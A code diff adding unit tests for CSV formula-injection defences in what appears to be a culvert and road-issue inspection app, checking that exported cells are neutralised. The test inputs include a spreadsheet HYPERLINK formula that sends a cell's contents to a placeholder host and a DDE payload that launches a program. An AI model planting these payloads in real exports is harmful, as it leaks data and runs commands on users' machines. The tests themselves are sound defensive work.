@@ -1,8 +1,17 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
+import { culvertFixture, inspectionFixture } from '../testing/culvertFixture';
 import { issueFixture } from '../testing/issueFixture';
-import { issuesToCsv } from './csv';
+import { culvertsToCsv, issuesToCsv, neutraliseFormula, rowsToCsv } from './csv';
 import { EXPORT_COLUMNS } from './fields';
+import { inspectionsToCsv } from './inspectionCsv';
+
+/** A CSV's rows by column, after its byte-order mark; a parse error fails the test. */
+const parse = (csv: string) => {
+  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true });
+  expect(parsed.errors).toEqual([]);
+  return parsed.data;
+};
 
 describe('issuesToCsv', () => {
   it('writes the spec columns and one row per issue, parsing back to the same values', () => {
@@ -28,5 +37,82 @@ describe('issuesToCsv', () => {
 
   it('writes only the byte-order mark and the header for no issues', () => {
     expect(issuesToCsv([]).trimEnd()).toBe(`\ufeff${EXPORT_COLUMNS.join(',')}`);
+  });
+});
+
+describe('neutraliseFormula', () => {
+  it.each([
+    ['=HYPERLINK("http://x/?"&A2,"open")'],
+    ['+1+2'],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(1)'],
+    ['\t=1+1'],
+    ['\r=1+1'],
+  ])('prefixes a quote to %j, which a spreadsheet would run', (text) => {
+    expect(neutraliseFormula(text)).toBe(`'${text}`);
+  });
+
+  it('neutralises text starting with a minus that is not a plain number', () => {
+    for (const text of ['-', '- see photo', '-12 m', '-1e5', '--1', '-.5', '-1+1', '+12']) {
+      expect(neutraliseFormula(text)).toBe(`'${text}`);
+    }
+  });
+
+  it('leaves plain numbers, negative ones included, and text starting otherwise as they are', () => {
+    for (const text of ['-114.071900', '-12', '0', '10', '53.93', 'N/A', 'Tall = dense', ' =1', "'=1", '']) {
+      expect(neutraliseFormula(text)).toBe(text);
+    }
+  });
+
+  it('neutralises a formula with a line break after it (papaparse escapeFormulae misses it)', () => {
+    expect(neutraliseFormula('=1+1\nnote')).toBe("'=1+1\nnote");
+  });
+});
+
+describe('rowsToCsv', () => {
+  it('neutralises each cell and still quotes commas, quotes and line breaks', () => {
+    const csv = rowsToCsv(['a', 'b', 'c'] as const, [
+      { a: '=HYPERLINK("http://x/?"&A2,"open")', b: '-114.0719', c: '@SUM(1),\n"x"' },
+    ]);
+    expect(csv).toBe(
+      '\ufeffa,b,c\r\n"\'=HYPERLINK(""http://x/?""&A2,""open"")",-114.0719,"\'@SUM(1),\n""x"""',
+    );
+    expect(parse(csv)).toEqual([
+      { a: '\'=HYPERLINK("http://x/?"&A2,"open")', b: '-114.0719', c: '\'@SUM(1),\n"x"' },
+    ]);
+  });
+});
+
+describe('every CSV export', () => {
+  const planted = '=HYPERLINK("http://x/?"&A2,"open")';
+
+  it("issues: a formula planted in Comments or the initiator's name is text; the risk score a number", () => {
+    const [row] = parse(
+      issuesToCsv([issueFixture({ id: 5, comments: planted, user: '+1+2', risk_score: 10 })]),
+    );
+    expect(row).toMatchObject({ Comments: `'${planted}`, Initiator: "'+1+2", 'Risk Score': '10' });
+  });
+
+  it('culverts: planted formulas are text, negative longitudes stay numbers', () => {
+    const [row] = parse(
+      culvertsToCsv([
+        {
+          culvert: culvertFixture({ road_name: '@SUM(1)' }),
+          inspection: inspectionFixture({ comments: planted, user: '-2+3' }),
+        },
+      ]),
+    );
+    expect(row).toMatchObject({
+      'Road Name': "'@SUM(1)",
+      Comments: `'${planted}`,
+      User: "'-2+3",
+      'Inlet Longitude': '-116.500000',
+      'Outlet Longitude': '-116.400000',
+    });
+  });
+
+  it('inspections: a formula planted in Comments or the user name is text', () => {
+    const [row] = parse(inspectionsToCsv([inspectionFixture({ comments: planted, user: '@me' })], new Map()));
+    expect(row).toMatchObject({ Comments: `'${planted}`, User: "'@me" });
   });
 });
